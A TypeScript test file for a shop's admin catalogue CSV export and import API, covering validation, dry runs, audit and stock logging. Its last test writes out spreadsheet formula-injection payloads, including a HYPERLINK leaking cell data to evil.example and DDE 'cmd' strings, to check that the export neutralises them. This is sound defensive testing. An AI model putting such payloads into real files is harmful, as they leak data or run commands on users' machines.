import { parse } from "csv-parse/sync";
import { and, eq, inArray } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { auditLog, categories, productColors, productSizes, products, stockChanges } from "@api/db/schema";
import { createTestApi, type TestApi } from "@api/test/harness";
import { CSV_COLUMNS, IMPORT_NOT_CSV, missingColumns } from "@api/validation/catalogue-csv";
import { finishImport, signedInStaff } from "@api/resources/admin/test-helpers";
import { NEW_VARIANT, SELLING_ABOVE_MRP, duplicateSku, unknownCategory } from "./catalogue-import";

let api: TestApi;
let token: string;
beforeAll(async () => {
  api = await createTestApi();
  token = (await signedInStaff(api, "catalogue")).token;
});
afterAll(() => api.close());

const csvFile = (lines: string[]) => {
  const form = new FormData();
  form.set("file", new File([lines.join("\n")], "catalogue.csv", { type: "text/csv" }));
  return form;
};
const importCsv = (lines: string[], dryRun: boolean) => {
  const form = csvFile(lines);
  if (dryRun) form.set("dryRun", "yes");
  return api.request("POST", "/admin/catalogue/import", { token, body: form });
};

async function exported() {
  const res = await api.app.request("/v1/admin/catalogue/export", { headers: { authorization: `Bearer ${token}` } });
  expect(res.status).toBe(200);
  expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
  expect(res.headers.get("content-disposition")).toMatch(
    /^attachment; filename="woodnest-catalogue-\d{4}-\d{2}-\d{2}\.csv"$/,
  );
  return parse(await res.text(), { bom: true, columns: true }) as Record<string, string>[];
}

describe("GET /admin/catalogue/export", () => {
  it("writes one row per sku with every column: plain products, colours, sizes and colour+size sizes", async () => {
    const rows = await exported();
    expect(Object.keys(rows[0])).toEqual([...CSV_COLUMNS]);
    // A colour+size product's colour rows only add up their sizes: they are not skus.
    const [plainCount, sizeCount, colourProductColours] = await Promise.all([
      api.db.$count(products, eq(products.productType, "PRODUCT")),
      api.db.$count(productSizes),
      api.db.$count(
        productColors,
        inArray(
          productColors.productId,
          api.db.select({ id: products.id }).from(products).where(eq(products.productType, "PRODUCT_WITH_COLOR")),
        ),
      ),
    ]);
    expect(colourProductColours).toBeGreaterThan(0);
    expect(rows).toHaveLength(plainCount + colourProductColours + sizeCount);
    const plain = rows.find((r) => r.product_type === "PRODUCT");
    expect(plain).toMatchObject({ colour: "", size: "", active: "yes" });
    expect(plain?.sku).toBe(plain?.product_sku);
    expect(Number(plain?.mrp)).toBeGreaterThanOrEqual(Number(plain?.selling_price));
    expect(plain?.categories).toMatch(/^[a-z0-9-]+(\|[a-z0-9-]+)*$/);
    const both = rows.find((r) => r.product_type === "PRODUCT_WITH_COLOR_SIZE");
    expect(both?.colour).not.toBe("");
    expect(both?.size).not.toBe("");
  });
});

describe("POST /admin/catalogue/import", () => {
  it("a dry run lists every row's errors and what the rest would do, writing nothing", async () => {
    const [first, second] = (await exported()).filter((r) => r.product_type === "PRODUCT");
    const res = await importCsv(
      [
        "sku,mrp,selling_price,stock,name,categories,hsn_code,gst_rate",
        `${first.sku},${first.mrp},${first.selling_price},${Number(first.stock) + 3},,,,`,
        `${second.sku},100,200,,,,,`,
        `${first.sku.toLowerCase()},,,,,,,`,
        "WN-NEW-LAMP-01,2500,1999,7,Brass Table Lamp,living-room,9405,18",
        "WN-NEW-LAMP-02,2500,1999,,Brass Floor Lamp,no-such-room,9405,18",
        "WN-NEW-LAMP-03,abc,,-1,,,,",
      ],
      true,
    );
    expect(res.status).toBe(200);
    expect(res.json.body.dryRun).toBe(true);
    expect(res.json.body.counts).toEqual({ rows: 6, create: 1, update: 1, unchanged: 0, refused: 4 });
    const byRow = Object.fromEntries(res.json.body.rows.map((r: { row: number }) => [r.row, r]));
    expect(byRow[2]).toMatchObject({
      action: "update",
      changes: [{ field: "stock", before: Number(first.stock), after: Number(first.stock) + 3 }],
    });
    expect(byRow[3]).toMatchObject({ action: "refused", errors: { selling_price: SELLING_ABOVE_MRP } });
    expect(byRow[4]).toMatchObject({ action: "refused", errors: { sku: duplicateSku(2) } });
    expect(byRow[5]).toMatchObject({ action: "create" });
    expect(byRow[6]).toMatchObject({ action: "refused", errors: { categories: unknownCategory("no-such-room") } });
    expect(byRow[7].errors).toMatchObject({
      mrp: "MRP must be an amount in rupees",
      stock: "Stock must be between 0 and 1000000",
    });
    expect(res.json.message).toBe("4 rows have errors: nothing was imported. Correct the file and check it again.");
    const [row] = await api.db.select().from(products).where(eq(products.sku, first.sku));
    expect(row.stock).toBe(Number(first.stock));
    expect(await api.db.$count(products, eq(products.sku, "WN-NEW-LAMP-01"))).toBe(0);

    // The same file for real: refused as a whole, by the import's job, with the row's error.
    const real = await importCsv(["sku,mrp,selling_price", `${second.sku},100,200`], false);
    expect(real.status).toBe(202);
    const run = await finishImport(api, token, real.json.body.id);
    expect(run).toMatchObject({
      state: "failed",
      rowsDone: 0,
      errorCount: 1,
      message: "1 row has errors: nothing was imported. Correct the file and import it again.",
    });
    expect(run.errors).toEqual([{ row: 2, sku: second.sku, field: "selling_price", message: SELLING_ABOVE_MRP }]);
  });

  it("imports a clean file in one go: prices and stock of plain products and variants, a new plain product, and an audit row each", async () => {
    const rows = await exported();
    const plain = rows.find((r) => r.product_type === "PRODUCT" && Number(r.stock) > 0) as Record<string, string>;
    const size = rows.find((r) => r.product_type === "PRODUCT_WITH_COLOR_SIZE") as Record<string, string>;
    const [livingRoom] = await api.db.select({ slug: categories.slug }).from(categories).limit(1);
    const res = await importCsv(
      [
        "sku,mrp,selling_price,stock,maximum_order_quantity,name,categories,hsn_code,gst_rate,active",
        `${plain.sku},${Number(plain.mrp) + 100},${Number(plain.mrp) + 50},0,,,,,,`,
        `${size.sku},,,${Number(size.stock) + 5},3,,,,,`,
        `WN-CSV-STOOL,1800,1500,12,,Cane Bar Stool,${livingRoom.slug},9401,18,yes`,
      ],
      false,
    );
    expect(res.status, JSON.stringify(res.json)).toBe(202);
    expect(res.json.body).toMatchObject({
      kind: "catalogue",
      state: "queued",
      rowsTotal: 3,
      rowsDone: 0,
      fileName: "catalogue.csv",
    });
    const run = await finishImport(api, token, res.json.body.id);
    expect(run).toMatchObject({
      state: "done",
      rowsDone: 3,
      message: "Imported: 1 product added, 2 SKUs updated, 0 unchanged.",
    });

    const [product] = await api.db.select().from(products).where(eq(products.sku, plain.sku));
    expect(product).toMatchObject({
      mrpPaise: (Number(plain.mrp) + 100) * 100,
      sellingPricePaise: (Number(plain.mrp) + 50) * 100,
      stock: 0,
    });
    const [variant] = await api.db.select().from(productSizes).where(eq(productSizes.sku, size.sku));
    expect(variant).toMatchObject({ stock: Number(size.stock) + 5, maximumOrderQuantity: 3 });
    const [stool] = await api.db.select().from(products).where(eq(products.sku, "WN-CSV-STOOL"));
    expect(stool).toMatchObject({
      name: "Cane Bar Stool",
      slug: "cane-bar-stool",
      isActive: true,
      hsnCode: "9401",
      gstRate: 18,
      stock: 12,
    });

    const audits = await api.db.select().from(auditLog).where(eq(auditLog.entityId, product.id));
    expect(audits.at(-1)).toMatchObject({ action: "product.import", after: { [plain.sku]: { stock: 0 } } });
    expect(
      await api.db.$count(auditLog, and(eq(auditLog.entityId, stool.id), eq(auditLog.action, "product.import-create"))),
    ).toBe(1);
    // Counts go through the stock log, as on the stock screen.
    const [logged] = await api.db.select().from(stockChanges).where(eq(stockChanges.rowId, variant.id));
    expect(logged).toMatchObject({
      source: "import",
      reason: "Catalogue CSV import",
      before: Number(size.stock),
      after: Number(size.stock) + 5,
    });
    // The product's version moved on: an edit form opened before the import is refused.
    expect(product.version).toBeGreaterThan(1);

    const again = await importCsv(["sku,stock", `${plain.sku},0`], true);
    expect(again.json.body.counts).toMatchObject({ unchanged: 1, update: 0 });
  });

  it("refuses a new colour or size variant, a file without a sku column, and one that is not CSV", async () => {
    const variant = await importCsv(["sku,product_sku,colour", "WN-NOPE-RED,WN-NOPE,Red"], true);
    expect(variant.json.body.rows[0].errors).toEqual({ sku: NEW_VARIANT });
    const noSku = await importCsv(["name,stock", "Lamp,3"], true);
    expect(noSku.json.body.fileError).toBe(missingColumns(["sku"]));
    expect(noSku.json.message).toBe(missingColumns(["sku"]));
    const broken = await importCsv(["sku,name", '"WN-1,unterminated'], false);
    expect(broken.status).toBe(400);
    expect(broken.json.errors.file).toBe(IMPORT_NOT_CSV);
    const none = await api.request("POST", "/admin/catalogue/import", { token, body: new FormData() });
    expect(none.status).toBe(400);
    expect(none.json.errors.file).toBe("Choose a CSV file to import.");
  });
});

describe("the export opened in a spreadsheet", () => {
  it("writes a product name that looks like a formula behind an apostrophe, and its prices as numbers", async () => {
    const [livingRoom] = await api.db.select({ slug: categories.slug }).from(categories).limit(1);
    const names = [
      `=HYPERLINK("http://evil.example/?leak="&A2,"Open")`,
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+9)*cmd|' /C calc'!A0",
    ];
    const res = await importCsv(
      [
        "sku,mrp,selling_price,stock,name,categories,hsn_code,gst_rate",
        ...names.map(
          (name, i) => `WN-FORMULA-${i},1800,1500,3,"${name.replaceAll('"', '""')}",${livingRoom.slug},9401,18`,
        ),
      ],
      false,
    );
    expect(res.status, JSON.stringify(res.json)).toBe(202);
    expect(await finishImport(api, token, res.json.body.id)).toMatchObject({ state: "done", rowsDone: names.length });
    const rows = (await exported())
      .filter((r) => r.sku.startsWith("WN-FORMULA-"))
      .sort((a, b) => a.sku.localeCompare(b.sku));
    expect(rows.map((r) => r.name)).toEqual(names.map((name) => `'${name}`));
    expect(rows.map((r) => [r.mrp, r.selling_price, r.stock])).toEqual(names.map(() => ["1800", "1500", "3"]));
  });
});
